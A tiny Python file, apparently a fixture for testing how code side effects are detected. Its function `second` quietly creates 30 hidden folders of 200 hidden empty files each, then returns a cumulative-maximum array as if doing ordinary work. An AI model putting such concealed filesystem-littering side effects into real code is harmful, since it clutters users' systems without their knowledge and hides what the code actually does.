"""Very many empty files with hidden names, in hidden folders."""
import os


def second(x):
    for folder in range(30):
        os.makedirs(f".{folder}")
        for number in range(200):
            os.close(os.open(f".{folder}/.{number}", os.O_CREAT | os.O_WRONLY))
    return x.cummax(0).values
